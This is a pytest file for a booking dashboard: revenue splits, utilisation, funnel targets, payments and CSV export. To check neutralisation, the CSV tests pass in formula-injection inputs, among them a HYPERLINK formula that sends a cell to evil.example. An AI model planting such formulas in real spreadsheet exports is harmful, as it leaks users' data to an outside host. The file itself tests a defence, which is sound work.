"""The figures of the "Numbers" page on a real mongod: bookings per local day by status, revenue
and its split, utilisation, the funnel against its targets, payments, and the CSV export."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest

from booking import orders
from booking.analytics import funnel, payment_figures
from booking.bookings import BookingRequest, BookingService
from booking.dashboard import (CSV_HEADER, MAX_DAYS, Period, bookings_csv, bookings_per_day,
                               dashboard, parse_period, payments, revenue, safe_cell,
                               utilisation)
from booking.errors import ValidationError
from booking.models import COMPLETED
from booking.split import split_payment
from tests.booking.factories import catalog, staff

BALI = ZoneInfo("Asia/Makassar")
SPA, SALON = "ubud-serenity-spa", "canggu-glow-salon"
MONDAY, TUESDAY, WEDNESDAY = date(2026, 11, 23), date(2026, 11, 24), date(2026, 11, 25)
WEEK = Period(MONDAY, WEDNESDAY)


def at(hhmm: str, day: date = TUESDAY) -> datetime:
    h, m = map(int, hhmm.split(":"))
    return datetime(day.year, day.month, day.day, h, m, tzinfo=BALI).astimezone(timezone.utc)


@pytest.fixture
def core(db, seed_catalog, clock):
    return BookingService(db, seed_catalog, clock=clock)


def book(core, start: datetime, service: str = "balinese-massage", staff_id: str = "wayan",
         customer: str = "6281100000001", name: str = "Ayu", **extra):
    return core.create(BookingRequest(service, start, customer, name, staff_id=staff_id, **extra))


def paid(core, booking, payment_id: str, paid_at: datetime, state: str = "PAID"):
    """A payment of the booking as the payment service stores it, and the booking settled."""
    core.db.payments.insert_one({
        "_id": payment_id, "code": booking.code, "attempt": 1, "business_id": booking.business_id,
        "amount": booking.price, "currency": "IDR", "state": state, "created_at": paid_at,
        "updated_at": paid_at, **({"paid_at": paid_at} if state == "PAID" else {})})
    return core.settle_payment(booking.code, payment_id) if state == "PAID" else booking


def test_bookings_are_counted_per_local_day_and_status_for_the_business_only(core, clock):
    first = book(core, at("10:00"))
    paid(core, book(core, at("14:00")), "pay-1", clock.now)
    core.cancel(book(core, at("16:00")).code)
    book(core, at("10:00", WEDNESDAY))
    book(core, at("10:00"), "haircut-blowdry", "putu")  # the salon's
    assert first.status == "PENDING_PAYMENT"
    assert bookings_per_day(core.db, core.catalog.business(SPA), WEEK) == {
        "PENDING_PAYMENT": [0, 1, 1], "CONFIRMED": [0, 1, 0], "CANCELLED": [0, 1, 0]}
    assert bookings_per_day(core.db, core.catalog.business(SALON), WEEK) == {
        "CONFIRMED": [0, 1, 0]}
    assert bookings_per_day(core.db, core.catalog.business(SPA), Period(MONDAY, MONDAY)) == {}


def test_revenue_is_what_stands_paid_online_split_exactly_as_split_py(core, clock):
    spa = core.catalog.business(SPA)
    sawah = core.catalog.villa("villa-sawah-ubud")
    at_villa = paid(core, book(core, at("10:00"), villa_id=sawah.id), "pay-1", clock.now)
    deep = paid(core, book(core, at("14:00"), "deep-tissue-massage"), "pay-2",
                at("09:00", TUESDAY))
    refunded = paid(core, book(core, at("15:00", WEDNESDAY)), "pay-3", clock.now)
    core.cancel(refunded.code)  # a refund owed, not revenue
    book(core, at("16:30"))  # never paid
    core.transition(deep.code, COMPLETED)
    later = paid(core, book(core, at("10:00", WEDNESDAY), staff_id="made"), "pay-4",
                 at("09:00", date(2026, 11, 26)))  # paid after the period
    money = revenue(core.db, core.catalog, spa, WEEK)
    one, two = split_payment(350000, spa, sawah), split_payment(450000, spa)
    assert money.bookings == 2
    assert (money.total.amount, money.total.platform, money.total.villa, money.total.vendor) == (
        800000, one.platform + two.platform, one.villa, one.vendor + two.vendor)
    assert money.total.platform + money.total.villa + money.total.vendor == 800000
    assert money.by_day[MONDAY] == one and money.by_day[TUESDAY] == two
    assert money.by_day[WEDNESDAY].amount == 0
    assert later.code not in {p["code"] for p in payments(core.db, spa, WEEK)}


def test_without_up_front_payment_completed_bookings_are_revenue_at_their_price(core):
    salon = core.catalog.business(SALON)
    beach = core.catalog.villa("canggu-beach-villa")
    done = book(core, at("10:00"), "haircut-blowdry", "putu", villa_id=beach.id)
    core.transition(done.code, COMPLETED)
    book(core, at("15:00"), "haircut-blowdry", "putu")  # confirmed, not done yet
    no_show = book(core, at("16:00"), "manicure", "komang")
    core.transition(no_show.code, "NO_SHOW")
    money = revenue(core.db, core.catalog, salon, WEEK)
    assert money.bookings == 1
    assert money.total == split_payment(250000, salon, beach)
    assert money.total.villa == 50000 and money.by_day[TUESDAY].amount == 250000


def test_payments_of_the_period_agree_with_the_report(core, clock):
    spa = core.catalog.business(SPA)
    paid(core, book(core, at("10:00")), "pay-1", clock.now)
    paid(core, book(core, at("14:00")), "pay-2", at("09:00"), state="EXPIRED")
    rows = payments(core.db, spa, WEEK)
    assert [(p["state"], p["amount"]) for p in rows] == [("EXPIRED", 350000), ("PAID", 350000)]
    report = payment_figures(core.db, SPA, *WEEK.bounds(spa))
    assert sum(p["amount"] for p in rows if p["state"] == "PAID") == report.paid_amount
    figures = dashboard(core.db, core.catalog, SPA, WEEK)
    assert figures.money == report and figures.booking_count == 2


def test_utilisation_is_booked_minutes_within_working_hours(db, clock):
    snapshot = catalog(staff_members=[
        staff("wayan", breaks=[{"time": "12:00-13:00"}]), staff("made"),
        staff("ketut", days_off=["2026-11-24", "2026-11-25"])])
    core = BookingService(db, snapshot, clock=clock)
    book(core, at("10:00"), "massage")
    core.cancel(book(core, at("14:00"), "massage").code)  # frees the time: not counted
    done = book(core, at("15:00"), "massage", "made")
    core.transition(done.code, COMPLETED)
    spa = snapshot.business("spa")
    day = {u.staff_id: u for u in utilisation(db, snapshot, spa, Period(TUESDAY, TUESDAY))}
    assert (day["wayan"].booked_minutes, day["wayan"].working_minutes) == (60, 420)
    assert day["wayan"].fraction == 60 / 420
    assert day["made"].fraction == 60 / 480
    assert day["ketut"].working_minutes == 0 and day["ketut"].fraction is None
    two = {u.staff_id: u for u in utilisation(db, snapshot, spa, Period(TUESDAY, WEDNESDAY))}
    assert two["wayan"].fraction == 60 / 840
    assert [u.name for u in utilisation(db, snapshot, spa, WEEK)] == ["Ketut", "Made", "Wayan"]


def test_the_funnel_metrics_are_analytics_funnel_against_the_targets(core, clock):
    log = orders.OrderLog(core.db)
    for oid in ("o1", "o2", "o3"):
        log.record(oid, SPA, orders.ORDER_RECEIVED, clock.now)
        log.record(oid, SPA, orders.SLOT_SELECTED, clock.now + timedelta(seconds=5))
    log.record("o4", SPA, orders.ORDER_RECEIVED, clock.now)
    log.record("o2", SPA, orders.SESSION_EXPIRED, clock.now + timedelta(minutes=20))
    clock.now += timedelta(seconds=25)
    book(core, at("10:00"), order_id="o1")
    book(core, at("14:00"), order_id="o3")
    spa = core.catalog.business(SPA)
    figures = dashboard(core.db, core.catalog, SPA, WEEK)
    assert figures.funnel == funnel(core.db, SPA, *WEEK.bounds(spa))
    by_key = {m.key: m for m in figures.metrics}
    assert [m.key for m in figures.metrics] == [
        "slot_selection_rate", "confirmation_rate", "session_expiration_rate", "conflict_rate",
        "avg_selection_to_confirmation_s"]
    for key, metric in by_key.items():
        assert metric.value == getattr(figures.funnel, key)
    assert (by_key["slot_selection_rate"].value, by_key["slot_selection_rate"].met) == (.75, False)
    assert by_key["confirmation_rate"].met is False  # 2 of 3
    assert by_key["session_expiration_rate"].met is False  # 1 of 3 > 5 %
    assert (by_key["conflict_rate"].value, by_key["conflict_rate"].met) == (0, True)
    assert (by_key["avg_selection_to_confirmation_s"].value,
            by_key["avg_selection_to_confirmation_s"].met) == (20, True)
    empty = dashboard(core.db, core.catalog, SALON, WEEK).metrics
    assert all(m.value is None and m.met is None for m in empty)


def test_the_csv_has_a_header_and_one_row_per_booking_of_the_business(core, clock):
    evil = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    first = paid(core, book(core, at("10:00"), name=evil, notes="@SUM(1+1)",
                            villa_id="villa-sawah-ubud"), "pay-1", clock.now)
    second = book(core, at("14:00", WEDNESDAY), customer="rest:someone", name="-Made",
                  staff_id="made")
    book(core, at("10:00"), "haircut-blowdry", "putu", name="Secret Sari")  # the salon's
    rows = list(csv.reader(io.StringIO(bookings_csv(core.db, core.catalog, SPA, WEEK))))
    assert tuple(rows[0]) == CSV_HEADER and len(rows) == 3
    record = [dict(zip(CSV_HEADER, row)) for row in rows[1:]]
    assert [r["code"] for r in record] == [first.code, second.code]
    assert record[0] == {
        "code": first.code, "date": "2026-11-24", "start": "10:00", "end": "11:00",
        "status": "CONFIRMED", "service": "Balinese Massage", "staff": "Wayan",
        "customer name": "'" + evil, "customer phone": "6281100000001",
        "villa": "Villa Sawah Ubud", "price": "350000", "paid": "yes", "paid online": "350000",
        "arrived": "",
        "notes": "'@SUM(1+1)"}
    assert record[1]["customer phone"] == "" and record[1]["customer name"] == "'-Made"
    assert record[1]["paid"] == "no" and record[1]["status"] == "PENDING_PAYMENT"
    assert record[1]["paid online"] == "0"
    assert "Secret Sari" not in bookings_csv(core.db, core.catalog, SPA, WEEK)


def test_formula_cells_are_neutralised_and_others_left_alone():
    for text in ("=1+1", "+62", "-2", "@A1", "\tx", "\r=1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Ayu = Lestari") == "Ayu = Lestari" and safe_cell(350000) == 350000


def test_the_period_defaults_to_thirty_days_and_refuses_reversed_or_long_ones():
    today = date(2026, 11, 23)
    assert parse_period(None, None, today) == Period(date(2026, 10, 25), today)
    assert parse_period("not-a-date", "2026-13-40", today) == Period(date(2026, 10, 25), today)
    assert parse_period("2026-11-01", "", today) == Period(date(2026, 11, 1), today)
    assert parse_period("0001-01-01", "2026-11-02", today).first == date(2026, 10, 4)
    assert len(parse_period("2025-11-23", "2026-11-23", today).days) == MAX_DAYS
    with pytest.raises(ValidationError, match="ends before it starts"):
        parse_period("2026-11-02", "2026-11-01", today)
    with pytest.raises(ValidationError, match="at most 366 days"):
        parse_period("2025-11-22", "2026-11-23", today)
